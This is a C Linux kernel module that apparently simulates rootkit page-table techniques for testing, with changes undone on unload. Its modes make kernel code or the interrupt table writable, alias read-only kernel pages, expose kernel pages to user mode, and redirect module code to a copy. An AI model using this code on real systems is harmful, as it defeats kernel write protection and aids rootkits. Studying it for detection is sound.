// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: rights in page tables: a page of kernel code made writable (how=text), or mapped a second time for writing
 * (how=text_alias; how=rodata_alias: read-only data), a page of the kernel that user mode may read (how=user), a mapping of
 * the kernel's half that one process has for itself (how=own_half), the interrupt table made writable (how=idt), an entry for
 * user addresses in the kernel's own page tables (how=user_half), code of a module that leads to a copy of it elsewhere
 * (how=code_moved).
 * Who: kits that avoid CR0.WP (KoviD's and Phalanx' kind); exploits.
 * Changes: one entry of the kernel's page tables, or a new mapping. Undone when it is unloaded.
 */
#include "attack.h"

#include <asm/pgtable.h>
#include <linux/ctype.h>
#include <linux/pid.h>
#include <linux/sched/mm.h>
#include <linux/sched/task.h>
#include <linux/smp.h>

KERNEL_SYMBOL_SWAPOFF;
KERNEL_SYMBOL(sys_call_table);
KERNEL_SYMBOL(dummy_xmit);
VARIANT("text");
static int pid;
module_param(pid, int, 0);
/* The kernel's own highest table: swapper_pg_dir, which kallsyms does not always name. */
static ulong root;
module_param(root, ulong, 0);

static pte_t *entry, original;
static void *mapping, *copy;

static int change(unsigned long address, unsigned long bits)
{
	unsigned int level;

	entry = lookup_address(address, &level);
	if (!entry)
		return -ENOENT;
	original = *entry;
	WRITE_ONCE(*entry, __pte(pte_val(original) | bits));
	return 0;
}

static int map_again(unsigned long address)
{
	unsigned int level;
	pte_t *pte = lookup_address(address, &level);
	pteval_t frame;
	struct page *page;

	if (!pte)
		return -ENOENT;
	frame = pte_val(*pte) & PTE_PFN_MASK;
	if (level == PG_LEVEL_2M)
		frame = (frame & PMD_MASK) | (address & ~PMD_MASK & PAGE_MASK);
	page = pfn_to_page(frame >> PAGE_SHIFT);
	mapping = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	return mapping ? 0 : -ENOMEM;
}

/* The part of a table of processes and kernel that maps the kernel's half, and where its free entries are looked for. */
#if defined(CONFIG_X86_64)
typedef u64 table_entry;
#define FIRST_FREE 300
#define LAST_FREE 500
#elif defined(CONFIG_X86_PAE)
typedef u64 table_entry;
#define FIRST_FREE 200
#define LAST_FREE 500
#else
typedef u32 table_entry;
#define FIRST_FREE 850
#define LAST_FREE 1000
#endif

static struct mm_struct *mm_of_victim(void)
{
	struct task_struct *task;
	struct mm_struct *mm;

	rcu_read_lock();
	task = get_pid_task(find_vpid(pid), PIDTYPE_PID);
	rcu_read_unlock();
	if (!task)
		return NULL;
	mm = get_task_mm(task);
	put_task_struct(task);
	return mm;
}

/* An entry of the kernel's half that the kernel leaves free. It leads to a table that is empty. */
static int map_for_one(void)
{
	table_entry *kernel = (void *)root, *own, *free = NULL;
	struct mm_struct *mm = mm_of_victim();
	int i;

	if (!mm || !kernel)
		return -ESRCH;
	own = (table_entry *)mm->pgd;
	mmput(mm);
	mapping = (void *)get_zeroed_page(GFP_KERNEL);
	copy = (void *)get_zeroed_page(GFP_KERNEL);
	if (!mapping || !copy)
		return -ENOMEM;
#ifdef CONFIG_X86_PAE
	/* The kernel's half is one directory, which all may share: this process gets a copy of it. */
	entry = (pte_t *)&own[3];
	kernel = __va(kernel[3] & PTE_PFN_MASK);
	memcpy(copy, __va(own[3] & PTE_PFN_MASK), PAGE_SIZE);
	own = copy;
#endif
	for (i = FIRST_FREE; i < LAST_FREE && !free; ++i)
		if (!kernel[i] && !own[i])
			free = &own[i];
	if (!free) {
		entry = NULL;
		return -ESRCH;
	}
#ifdef CONFIG_X86_PAE
	*free = __pa(mapping) | _PAGE_PRESENT | _PAGE_RW;
	original = *entry;
	WRITE_ONCE(*entry, __pte(__pa(copy) | _PAGE_PRESENT));
#else
	entry = (pte_t *)free;
	WRITE_ONCE(*entry, __pte(__pa(mapping) | _PAGE_PRESENT | _PAGE_RW));
#endif
	return 0;
}

/* An entry of the highest table for an address of the lower half. It leads to a table that is empty. */
static int map_user_half(void)
{
	/* One of the four with PAE may have no other bits. */
	const bool four = IS_ENABLED(CONFIG_X86_PAE);

	mapping = (void *)get_zeroed_page(GFP_KERNEL);
	if (!mapping || !root)
		return -ENOMEM;
	entry = (pte_t *)root + (four ? 1 : 7);
	original = *entry;
	WRITE_ONCE(*entry, __pte(__pa(mapping) | _PAGE_PRESENT | (four ? 0 : _PAGE_RW)));
	return 0;
}

static void flush(void *unused)
{
	unsigned long cr4;

	asm volatile("mov %%cr4, %0" : "=r"(cr4));
	asm volatile("mov %0, %%cr4" : : "r"(cr4 ^ 0x80UL) : "memory");
	asm volatile("mov %0, %%cr4" : : "r"(cr4) : "memory");
}

static int move_code(void)
{
	unsigned int level;
	unsigned long page = dummy_xmit_at & PAGE_MASK;

	entry = page ? lookup_address(page, &level) : NULL;
	if (!entry || level != PG_LEVEL_4K)
		return -ESRCH;
	mapping = (void *)get_zeroed_page(GFP_KERNEL);
	if (!mapping)
		return -ENOMEM;
	memcpy(mapping, (void *)page, PAGE_SIZE);
	original = *entry;
	WRITE_ONCE(*entry, __pte((pte_val(original) & ~PTE_PFN_MASK) | __pa(mapping)));
	on_each_cpu(flush, NULL, 1);
	return 0;
}

static int __init start(void)
{
	if (HOW("text"))
		return change(swapoff_at, _PAGE_RW);
	if (HOW("text_alias"))
		return map_again(swapoff_at);
	if (HOW("rodata_alias"))
		return map_again(sys_call_table_at ? sys_call_table_at : (unsigned long)_ctype);
	if (HOW("own_half"))
		return map_for_one();
	if (HOW("user_half"))
		return map_user_half();
	if (HOW("code_moved"))
		return move_code();
	if (HOW("idt")) {
		struct __packed {
			u16 limit;
			unsigned long base;
		} table;

		asm volatile("sidt %0" : "=m"(table));
		return change(table.base, _PAGE_RW);
	}
	mapping = vzalloc(PAGE_SIZE);
	return mapping ? change((unsigned long)mapping, _PAGE_USER) : -ENOMEM;
}

static void __exit stop(void)
{
	if (entry)
		WRITE_ONCE(*entry, original);
	if (HOW("code_moved"))
		on_each_cpu(flush, NULL, 1);
	if (HOW("user"))
		vfree(mapping);
	else if (HOW("own_half") || HOW("user_half") || HOW("code_moved"))
		free_page((unsigned long)mapping);
	else if (mapping)
		vunmap(mapping);
	free_page((unsigned long)copy);
}

ATTACK(start, stop);
